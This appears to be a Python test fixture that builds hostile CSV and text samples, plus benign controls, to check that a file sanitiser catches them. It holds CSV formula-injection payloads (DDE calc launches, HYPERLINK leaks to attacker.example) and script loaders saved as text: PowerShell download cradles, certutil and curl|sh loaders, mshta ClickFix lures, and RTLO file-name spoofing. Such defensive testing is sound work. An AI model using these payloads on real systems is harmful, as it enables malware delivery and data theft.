"""Hostile CSV and text: formula injection in every form Excel reads, and scripts saved as
.txt where a double click or a copy-paste runs them.

CSV sources: OWASP "CSV Injection"; RFC 4180; Microsoft's documented list-separator rule
(Excel uses the Windows list separator for .csv — "," on Japanese Windows — whatever the
content looks like). Script sources: the languages' own grammars and public loader write-ups.
"""

from __future__ import annotations

from pathlib import Path

from tests.attacks.builders import Expect, sample

DDE = "=cmd|' /C calc'!A0"
HEADER = "氏名,金額,備考\r\n"


def _csv_sample(
    name: str, rows: str, source: str, encoding: str = "utf-8", suffix: str = ".csv", header: str = HEADER
) -> None:
    @sample(name, suffix, "csv-formula", source)
    def build(work: Path) -> bytes:
        return (header + rows).encode(encoding)


@sample(
    "csv_benign", ".csv", "control", "Japanese CSV with signed numbers and phone numbers", Expect.RELEASED
)
def csv_benign(work: Path) -> bytes:
    return (
        HEADER + '山田太郎,-1200,返金\r\n田中花子,+3400,"1,200円"\r\n佐藤,0312345678,備考なし\r\n'
    ).encode("cp932")


_csv_sample("csv_equals", f"山田,{DDE},危険\r\n", "OWASP CSV Injection: '=' and DDE")
_csv_sample("csv_plus", "山田,+cmd|' /C calc'!A0,x\r\n", "OWASP: '+' starts a formula")
_csv_sample("csv_minus", "山田,-2+3+cmd|' /C calc'!A0,x\r\n", "OWASP: '-' starts a formula")
_csv_sample("csv_at", "山田,@SUM(cmd|'/c calc'!A0),x\r\n", "OWASP: '@' (Lotus-style) starts a formula")
_csv_sample("csv_tab_prefix", "山田,\t=1+1,x\r\n", "OWASP: leading tab")
_csv_sample("csv_cr_prefix", '山田,"\r=1+1",x\r\n', "OWASP: leading carriage return")
_csv_sample(
    "csv_fullwidth_equals", "山田,＝cmd|' /C calc'!A0,x\r\n", "Excel JP IME: full-width ＝ is read as ="
)
_csv_sample("csv_fullwidth_plus_minus_at", "山田,＋1+1,－1+1\r\n佐藤,＠SUM(1),x\r\n", "full-width ＋ － ＠")
_csv_sample("csv_leading_spaces", "山田,   =1+1,x\r\n", "issue #8 §1: spaces before the sign")
_csv_sample(
    "csv_ideographic_space",
    '山田,\u3000=HYPERLINK("http://attacker.example"),x\r\n',
    "U+3000 before the sign",
)
_csv_sample(
    "csv_quoted_formula",
    '山田,"=HYPERLINK(""http://attacker.example/?""&A1,""詳細"")",x\r\n',
    "RFC 4180 §2.5-2.7: quoting does not stop Excel evaluating",
)
_csv_sample(
    "csv_semicolon_content",
    "a;b;c\r\nx;y,=cmd|' /C calc'!A0;z\r\nm;n;o\r\n",
    "semicolon-looking content: Excel on Japanese Windows still splits .csv on ','",
)
_csv_sample("csv_tab_content", "a\tb\tc\r\nx\ty,=1+1\tz\r\nm\tn\to\r\n", "tab-looking content named .csv")
_csv_sample("csv_sjis_dde", f"山田,{DDE},危険\r\n", "Shift_JIS CSV (Excel JP default) with DDE", "cp932")
_csv_sample(
    "csv_utf16_dde",
    f"山田\t{DDE}\t危険\r\n",
    "UTF-16 LE with BOM: Excel's 'Unicode text' (tab-separated)",
    "utf-16",
)
_csv_sample(
    "csv_dde_msexcel",
    "山田,=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!'',x\r\n",
    "MSEXCEL| DDE variant (2018 write-ups)",
)
_csv_sample(
    "tsv_formula", f"山田\t{DDE}\tx\r\n", "tab-separated file: Excel splits .tsv... on tab", suffix=".tsv"
)


def _script_sample(name: str, text: str, source: str, encoding: str = "utf-8") -> None:
    @sample(name, ".txt", "script-text", source)
    def build(work: Path) -> bytes:
        return text.encode(encoding)


@sample("txt_benign", ".txt", "control", "a Japanese memo", Expect.RELEASED)
def txt_benign(work: Path) -> bytes:
    return "お知らせ\r\n来週の会議は第二会議室で行います。\r\n資料は共有フォルダにあります。\r\n".encode(
        "cp932"
    )


@sample(
    "html_script",
    ".html",
    "script-text",
    "HTML with script and an inline handler: must come out as plain text",
)
def html_script(work: Path) -> bytes:
    return (
        '<html><body onload="alert(1)"><p>お知らせ</p><a href="javascript:alert(1)">x</a>'
        "<script>new ActiveXObject('WScript.Shell').Run('calc')</script></body></html>"
    ).encode()


_script_sample(
    "txt_powershell",
    "# 設定手順\r\n$u = 'http://attacker.example/a.ps1'\r\nIEX (New-Object Net.WebClient).DownloadString($u)\r\n",
    "PowerShell download cradle (Invoke-Expression + Net.WebClient)",
)
_script_sample(
    "txt_powershell_encoded",
    "メモ\r\npowershell -nop -w hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\r\n",
    "powershell -EncodedCommand one-liner",
)
_script_sample(
    "txt_vbscript",
    '\' invoice helper\r\nDim sh\r\nSet sh = CreateObject("WScript.Shell")\r\nsh.Run "calc.exe", 0\r\n',
    "VBScript via WScript.Shell",
)
_script_sample(
    "txt_jscript",
    'var s = new ActiveXObject("WScript.Shell");\r\ns.Run("cmd /c calc", 0);\r\n',
    "JScript via ActiveXObject",
)
_script_sample(
    "txt_batch_without_echo_off",
    'rem 請求書の印刷\r\nset T=%TEMP%\\a.exe\r\ncertutil -urlcache -split -f http://attacker.example/a.exe %T%\r\nstart "" %T%\r\n',
    "batch loader with certutil, no '@echo off' on line 1 (LOLBAS certutil)",
)
_script_sample(
    "txt_shell_no_shebang",
    "# setup\nset -e\ncurl -fsSL http://attacker.example/x.sh | sh\n",
    "curl | sh, no shebang",
)
_script_sample(
    "txt_hta",
    '<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize"/>\r\n<script language="VBScript">\r\n'
    'CreateObject("WScript.Shell").Run "calc"\r\n</script></head></html>\r\n',
    "HTA (mshta) application",
)
_script_sample(
    "txt_script_after_prose",
    "会議資料について\r\n"
    + "本文です。\r\n" * 5
    + "Start-Process calc.exe\r\nInvoke-WebRequest http://attacker.example -OutFile a.exe\r\n",
    "PowerShell statements after a few lines of prose",
)
_script_sample(
    "txt_powershell_sjis",
    "設定\r\nInvoke-Expression (Get-Content a.txt)\r\n",
    "PowerShell in Shift_JIS",
    "cp932",
)


_csv_sample(
    "csv_sep_directive",
    "sep=;\r\n名前;金額\r\n山田;=cmd|' /C calc'!A0\r\n",
    "Excel honours a first line 'sep=;' (the list separator is then ';', whatever Windows says)",
    header="",
)
_csv_sample(
    "csv_sep_directive_bom",
    "\ufeffsep=\t\r\n名前\t金額\r\n山田,x\t=1+1\r\n",
    "UTF-8 BOM then 'sep=<tab>'",
    header="",
)


@sample(
    "txt_named_bat_trailing_dot",
    ".bat.",
    "script-name",
    "Win32 naming: trailing dots are dropped, so 'run.bat.' runs as a batch file",
)
def txt_named_bat_trailing_dot(work: Path) -> bytes:
    return b"calc.exe\r\n"


@sample(
    "txt_named_vbs_trailing_space", ".vbs ", "script-name", "Win32 naming: a trailing space is dropped too"
)
def txt_named_vbs_trailing_space(work: Path) -> bytes:
    return b'MsgBox "hello"\r\n'


@sample("txt_rtlo_name", "\u202etxt.exe", "script-name", "RLO (U+202E) name spoofing: shows as 'exe.txt'")
def txt_rtlo_name(work: Path) -> bytes:
    return "お知らせ\r\n".encode()


_csv_sample(
    "csv_cr_only_line_endings",
    "山田,-1\r佐藤,=cmd|' /C calc'!A0\r",
    "classic Mac CR-only line ends: Excel splits rows on CR",
    header="氏名,金額\r",
)
_script_sample(
    "txt_powershell_utf16",
    "# メモ\r\nIEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a')\r\n",
    "PowerShell saved as UTF-16 (Notepad 'Unicode'): the statements are not ASCII bytes",
    "utf-16",
)
_script_sample(
    "txt_script_after_long_line",
    "A" * 200_000 + "\r\nStart-Process calc.exe\r\n",
    "a 200 kB first line pushes the statements past a byte-window scan",
)


@sample(
    "txt_control_chars_in_name",
    "\x1b[2J\r.txt",
    "script-name",
    "terminal escape and CR in a file name (log/console injection)",
)
def txt_control_chars_in_name(work: Path) -> bytes:
    return "お知らせ\r\n".encode()


@sample(
    "csv_benign_table_markers",
    ".csv",
    "control",
    "Japanese table with '-' and '－' for none, dates and quoted amounts",
    Expect.RELEASED,
)
def csv_benign_table_markers(work: Path) -> bytes:
    return (HEADER + '山田,-,なし\r\n佐藤,－,2026/11/28\r\n鈴木,"1,200",-3.5\r\n').encode("cp932")


@sample(
    "txt_benign_english_prose",
    ".txt",
    "control",
    "English prose with 'set up', 'start' and 'delete'",
    Expect.RELEASED,
)
def txt_benign_english_prose(work: Path) -> bytes:
    return b"Please set up the room before we start.\r\nDelete the old drafts after the meeting.\r\nDim lights at 18:00.\r\n"


_script_sample(
    "txt_clickfix_mshta",
    "認証エラーを直すには、Win+R を押して次を貼り付けてください:\r\nmshta https://attacker.example/verify.hta\r\n",
    "ClickFix lures (Proofpoint 2024): paste-and-run mshta one-liner",
)


@sample(
    "html_clickfix_powershell",
    ".html",
    "script-text",
    "ClickFix page whose visible text is a PowerShell cradle",
)
def html_clickfix_powershell(work: Path) -> bytes:
    return (
        "<html><body><h1>確認してください</h1><p>PowerShell に貼り付けて実行:</p>"
        "<pre>powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('https://attacker.example/a')\"</pre>"
        "</body></html>"
    ).encode()
